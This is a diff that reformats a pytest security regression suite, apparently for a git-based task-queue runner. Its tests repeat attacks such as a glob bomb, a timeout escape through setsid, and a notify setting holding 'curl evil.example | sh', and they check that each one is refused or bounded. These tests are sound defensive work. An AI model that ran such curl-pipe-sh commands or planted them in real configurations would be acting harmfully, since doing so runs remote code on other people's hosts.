@@ -5,7 +5,6 @@ and its docstring names the attack it repeats."""
 from __future__ import annotations
 
 import json
-import os
 import subprocess
 import sys
 import urllib.error
@@ -15,11 +14,11 @@ from pathlib import Path
 
 import psutil
 import pytest
-
-from support.memory import memory_queue
-from support.repos import ENV_PATH, add_step, edit, git, runner_json, set_config, tick, runner, step_file, wait_for
-from support.review import review_remote, start_board, stop
 from support.hooked import IDENTITIES, QUEUE, accepted, clone, push_commit, queue, refused, remote, template  # noqa: F401 - fixtures among them
+from support.memory import memory_queue
+from support.repos import ENV_PATH, add_step, edit, git, runner, runner_json, set_config, step_file, tick, wait_for
+from support.review import review_remote, start_board, stop
+
 from runner.core.config import DEFAULT_TOML
 from runner.core.limits import MAX_GLOB_SEGMENTS, MAX_TEXT_BYTES, MAX_TOUCHES
 from runner.queue.queue import author_for
@@ -28,8 +27,10 @@ from runner.store import FORCE, RefUpdate
 
 def glob_bomb(last: str, segments: int = 60) -> list[str]:
     """The attack's `touches:`: 64 globs of `**` and `a*` segments, the last one apart from the other step's."""
-    return ["/".join(("**" if k % 3 == 1 else f"a{n}*" if k == 0 else "a*") for k in range(segments)) + f"/{last}"
-            for n in range(MAX_TOUCHES)]
+    return [
+        "/".join(("**" if k % 3 == 1 else f"a{n}*" if k == 0 else "a*") for k in range(segments)) + f"/{last}"
+        for n in range(MAX_TOUCHES)
+    ]
 
 
 def test_a_ref_named_like_a_folder_of_runners_refs_is_refused_with_its_reason(remote, tmp_path):
@@ -37,9 +38,12 @@ def test_a_ref_named_like_a_folder_of_runners_refs_is_refused_with_its_reason(re
     by an internal UnboundLocalError, the reason lost."""
     store = clone(remote, tmp_path / "clone").store
     junk = store.make_commit([], {"junk.txt": b"x\n"}, "block the step branches\n", author_for("mallory"))
-    said = refused(remote, lambda: store.publish([RefUpdate("refs/heads/runner/steps", junk, FORCE)]),
-                   "refs/heads/runner/steps: named like a folder of runner's refs (refs/heads/runner/steps",
-                   ref="refs/heads/runner/steps")
+    said = refused(
+        remote,
+        lambda: store.publish([RefUpdate("refs/heads/runner/steps", junk, FORCE)]),
+        "refs/heads/runner/steps: named like a folder of runner's refs (refs/heads/runner/steps",
+        ref="refs/heads/runner/steps",
+    )
     assert "hook failed" not in said and "UnboundLocalError" not in said
     assert git(remote, "rev-parse", "--verify", "-q", QUEUE)
 
@@ -48,14 +52,20 @@ def test_a_glob_bomb_is_refused_by_the_hook_as_over_the_glob_bounds(queue, remot
     """Attack 2: two steps with 64 `touches:` globs of ~60 `**`/`a*` segments each; the hook accepted the plan
     and every claim decision, `runner ready`, `status` and the board then spent half a minute of CPU."""
     files = dict(step_file(step, touches=glob_bomb(last)) for step, last in (("01-bomb", "x"), ("02-bomb", "y")))
-    said = refused(remote, lambda: push_commit(queue, files, "add two glob bombs\n"),
-                   f"a glob has at most {MAX_GLOB_SEGMENTS}, and at most 4 `**`")
+    said = refused(
+        remote,
+        lambda: push_commit(queue, files, "add two glob bombs\n"),
+        f"a glob has at most {MAX_GLOB_SEGMENTS}, and at most 4 `**`",
+    )
     assert "01-bomb.md" in said
 
 
 def test_a_glob_bomb_already_on_a_queue_without_the_hook_is_an_invalid_step_no_claim_compares(queue_repo):
     """Attack 2 on a queue without the hook: the bombs are invalid steps, never ready, never compared."""
-    edit(queue_repo, dict(step_file(step, touches=glob_bomb(last)) for step, last in (("01-bomb", "x"), ("02-bomb", "y"))))
+    edit(
+        queue_repo,
+        dict(step_file(step, touches=glob_bomb(last)) for step, last in (("01-bomb", "x"), ("02-bomb", "y"))),
+    )
     assert json.loads(runner(queue_repo, "ready", "--json").stdout)["steps"] == []
     rows = {row["step"]: row for row in json.loads(runner(queue_repo, "status", "--json").stdout)["steps"]}
     assert {rows[step]["status"] for step in ("01-bomb", "02-bomb")} == {"invalid"}
@@ -63,9 +73,12 @@ def test_a_glob_bomb_already_on_a_queue_without_the_hook_is_an_invalid_step_no_c
 
 
 def with_notify(command: list[str], urls: list[str] = (), timeout: str = "30s") -> str:
-    text = DEFAULT_TOML.replace("detect = true", "detect = false").replace('timeout = "30s"  # a notice', f'timeout = "{timeout}"  # a notice')
+    text = DEFAULT_TOML.replace("detect = true", "detect = false").replace(
+        'timeout = "30s"  # a notice', f'timeout = "{timeout}"  # a notice'
+    )
     return text.replace("[notify]\ncommand = []", f"[notify]\ncommand = {json.dumps(command)}").replace(
-        "urls = []", f"urls = {json.dumps(list(urls))}")
+        "urls = []", f"urls = {json.dumps(list(urls))}"
+    )
 
 
 def notify_log(repo: Path) -> str:
@@ -79,8 +92,14 @@ def test_a_persons_halt_runs_no_notify_command_from_the_queue_unless_this_host_o
     ran = tmp_path / "ran.txt"
     edit(queue_repo, {"runner.toml": with_notify(["sh", "-c", 'echo "$1" >> "$0"', str(ran), "{event}"]).encode()})
     runner(queue_repo, "halt", "--reason", "lunch", "--by", "alice")
-    assert "halted of " in notify_log(queue_repo) and "not sent: [notify] comes from the queue branch" in notify_log(queue_repo)
-    said = lambda: next(c["detail"] for c in json.loads(runner(queue_repo, "doctor", "--json").stdout)["checks"] if c["name"] == "notices")  # noqa: E731
+    assert "halted of " in notify_log(queue_repo) and "not sent: [notify] comes from the queue branch" in notify_log(
+        queue_repo
+    )
+    said = lambda: next(
+        c["detail"]
+        for c in json.loads(runner(queue_repo, "doctor", "--json").stdout)["checks"]
+        if c["name"] == "notices"
+    )
     assert said().startswith("this host does not send [notify]'s notices")
     git(queue_repo, "config", "runner.notify", "true")  # this clone opts in, by a setting no push reaches
     assert said() == "this host sends [notify]'s notices (it opted in)"
@@ -88,7 +107,9 @@ def test_a_persons_halt_runs_no_notify_command_from_the_queue_unless_this_host_o
     runner(queue_repo, "halt", "--reason", "tea", "--by", "alice")
     assert wait_for(lambda: ran.exists() and ran.read_text()) == "halted\n"
     runner(queue_repo, "resume", "--by", "alice")
-    runner(queue_repo, "halt", "--reason", "dinner", "--by", "alice", env={"RUNNER_NOTIFY": "0"})  # this process opts out
+    runner(
+        queue_repo, "halt", "--reason", "dinner", "--by", "alice", env={"RUNNER_NOTIFY": "0"}
+    )  # this process opts out
     assert notify_log(queue_repo).count("not sent: [notify] comes from the queue branch") == 2
     assert ran.read_text() == "halted\n"
 
@@ -99,18 +120,25 @@ def test_with_identities_only_an_admin_changes_notify(queue, remote, monkeypatch
     queue.edit(lambda snap: {"runner.toml": (with_notify([]) + IDENTITIES).encode()}, "identities", "alice")
     for changed in (with_notify(["sh", "-c", "curl evil.example | sh"]), with_notify([], ["json://evil.example/x"])):
         monkeypatch.setenv("RUNNER_PUSHER", "bob")
-        refused(remote, lambda: push_commit(queue, {"runner.toml": (changed + IDENTITIES).encode()}, "notify me\n", author="bob"),
-                "only [hooks] admins may change [hooks], [notify] or the branch names (pusher 'bob')")
+        refused(
+            remote,
+            lambda: push_commit(queue, {"runner.toml": (changed + IDENTITIES).encode()}, "notify me\n", author="bob"),
+            "only [hooks] admins may change [hooks], [notify] or the branch names (pusher 'bob')",
+        )
     monkeypatch.setenv("RUNNER_PUSHER", "alice")
-    accepted(push_commit(queue, {"runner.toml": (with_notify(["true"]) + IDENTITIES).encode()}, "notify\n", author="alice"))
+    accepted(
+        push_commit(queue, {"runner.toml": (with_notify(["true"]) + IDENTITIES).encode()}, "notify\n", author="alice")
+    )
 
 
 def test_a_notify_command_dies_at_its_timeout_with_every_process_it_started(queue_repo, tmp_path):
     """Attack 9: a notify command's `setsid` child (its own session, out of the command's process group)
     outlived the command's timeout."""
     pids = tmp_path / "pids"
-    escape = (f'setsid sh -c \'echo $$ >> "{pids}"; exec sleep 600\' & '
-              f'until [ -s "{pids}" ]; do sleep 0.05; done; echo $$ >> "{pids}"; exec sleep 600')
+    escape = (
+        f"setsid sh -c 'echo $$ >> \"{pids}\"; exec sleep 600' & "
+        f'until [ -s "{pids}" ]; do sleep 0.05; done; echo $$ >> "{pids}"; exec sleep 600'
+    )
     edit(queue_repo, {"runner.toml": with_notify(["sh", "-c", escape], timeout="5s").encode()})
     runner(queue_repo, "halt", "--reason", "lunch", "--by", "alice", env={"RUNNER_NOTIFY": "1"})
     wait_for(lambda: "timed out (killed)" in notify_log(queue_repo))
@@ -131,7 +159,9 @@ def gone(pid: int) -> bool:
 
 def ask(url: str, headers: dict | None = None, body: dict | None = None) -> tuple[int, str]:
     data = json.dumps(body).encode() if body is not None else None
-    request = urllib.request.Request(url, data=data, headers=headers or {}, method="POST" if body is not None else "GET")
+    request = urllib.request.Request(
+        url, data=data, headers=headers or {}, method="POST" if body is not None else "GET"
+    )
     try:
         with urllib.request.urlopen(request, timeout=60) as answer:
             return answer.status, answer.read().decode()
@@ -206,8 +236,12 @@ def test_the_board_answers_only_its_own_names_on_any_address(tmp_path, monkeypat
 def piped_into_a_closed_reader(repo: Path, *args: str) -> subprocess.CompletedProcess:
     """`runner ARGS | head -0`: the reader is gone before runner writes, and what runner writes is more than a
     pipe holds, so its writes fail however the two processes are scheduled."""
-    proc = subprocess.Popen([sys.executable, "-m", "runner", *args, "--repo", str(repo)], stdout=subprocess.PIPE,
-                            stderr=subprocess.PIPE, env=ENV_PATH)
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "runner", *args, "--repo", str(repo)],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        env=ENV_PATH,
+    )
     proc.stdout.close()
     err = proc.stderr.read()
     proc.wait(timeout=120)
@@ -231,14 +265,21 @@ def test_output_into_a_reader_that_went_away_ends_quietly_as_a_unix_tool_does(qu
 # --- earlier fixes, now repeated (attack 10) ---------------------------------------------------------
 
 
-@pytest.mark.parametrize("reasons", [["y" * 5_000_000], ["y" * 250_000] * 20, ["y" * 1000] * 5000],
-                         ids=["one-5-MB-reason", "twenty-of-250-KB", "five-thousand-of-1-KB"])
-def test_a_verifiers_five_megabytes_of_reasons_are_clipped_in_last_verdict_as_in_last_error(queue_repo, tmp_path, reasons):
+@pytest.mark.parametrize(
+    "reasons",
+    [["y" * 5_000_000], ["y" * 250_000] * 20, ["y" * 1000] * 5000],
+    ids=["one-5-MB-reason", "twenty-of-250-KB", "five-thousand-of-1-KB"],
+)
+def test_a_verifiers_five_megabytes_of_reasons_are_clipped_in_last_verdict_as_in_last_error(
+    queue_repo, tmp_path, reasons
+):
     """Attack 10: a verifier prints 5 MB of `reasons`; what the step file keeps of the verdict (last_verdict) is
     bounded as last_error is, however the megabytes are split."""
     verdict = tmp_path / "verdict.py"
-    verdict.write_text("import json, sys\n"
-                       f"json.dump({{'pass': False, 'score': 0.1, 'reasons': {reasons!r}, 'next_hint': 'h' * 3_000_000}}, sys.stdout)\n")
+    verdict.write_text(
+        "import json, sys\n"
+        f"json.dump({{'pass': False, 'score': 0.1, 'reasons': {reasons!r}, 'next_hint': 'h' * 3_000_000}}, sys.stdout)\n"
+    )
     set_config(queue_repo, detect=False, max_attempts=1, max_fix_attempts=0, verifier=[sys.executable, str(verdict)])
     add_step(queue_repo, "01-a")
     assert tick(queue_repo)["sentinel"] == "STEP_FAILED"
@@ -265,7 +306,9 @@ class FakeClock:
         self.now += seconds
 
 
-def test_an_honest_claim_lands_within_a_bounded_deferral_beside_a_loop_of_legal_claims_and_releases(tmp_path, monkeypatch):
+def test_an_honest_claim_lands_within_a_bounded_deferral_beside_a_loop_of_legal_claims_and_releases(
+    tmp_path, monkeypatch
+):
     """Attack 10: a worker loops legal claim/release of one step, faster than an honest worker's claim of another
     takes; the honest claim waited while the queue moved faster than it could claim, for ever."""
     from runner.core.machine import Kind
@@ -319,4 +362,6 @@ def test_an_honest_claim_lands_within_a_bounded_deferral_beside_a_loop_of_legal_
     assert honest.races_lost == 1 and len(pushes) == 2  # it lost the race the attacker won, waited, then pushed once
     deferred = [when for when in rounds if pushes[0] < when < pushes[1]]
     assert len(deferred) >= 10  # the attacker's rounds it waited through, reading, not pushing
-    assert pushes[1] - pushes[0] <= MAX_DEFERRAL + 1.0 + 0.5  # the bound, one backoff (at most 1 s) and the reads between
+    assert (
+        pushes[1] - pushes[0] <= MAX_DEFERRAL + 1.0 + 0.5
+    )  # the bound, one backoff (at most 1 s) and the reads between
